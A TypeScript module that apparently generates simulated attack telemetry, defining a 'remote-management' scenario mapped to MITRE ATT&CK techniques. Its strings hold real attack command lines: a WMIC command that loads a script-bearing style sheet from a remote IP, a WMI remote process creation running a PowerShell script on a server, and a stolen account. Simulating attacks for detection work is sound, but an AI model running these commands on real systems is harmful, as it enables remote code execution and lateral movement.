import { wmic } from '../programs/proxies'
import { cmd, powershell, tasklist } from '../programs/windows'
import { type AttackStory, atDesk, onServer } from './story'

/** From a desk: a process created on a server through WMI, and a style sheet as a script. */
export const remoteManagement: AttackStory = {
  name: 'remote-management',
  technique: 'T1047',
  quiet: false,
  days: 1,
  victims: 2,
  suits: (day, victim) => (victim === 0 ? atDesk(day) : onServer(day)),
  run: (stage) => {
    const { day, campaign, victimNames } = stage
    const command = `cmd.exe /c powershell -nop -f C:\\Windows\\Temp\\${campaign.word(6)}.ps1`
    if (stage.victim === 0) {
      const shell = stage.act('T1059.003', 0, day.shell, cmd, 'cmd.exe')
      stage.act(
        'T1220',
        60,
        shell,
        wmic,
        `wmic  os get /format:"http://203.0.113.80/${campaign.word(4)}.xsl"`,
      )
      stage.act(
        'T1047',
        600,
        shell,
        wmic,
        `wmic  /node:${victimNames[1] ?? 'srv-file-0002'} process call create "${command}"`,
      )
      return
    }
    const remote = stage.act('T1047', 0, day.machine.service('wmi'), cmd, command, {
      account: stage.stolenAccount(),
    })
    stage.act('T1059.001', 1, remote, powershell, command.slice(11))
    stage.act('T1057', 12, remote, tasklist, 'tasklist  /v')
  },
}
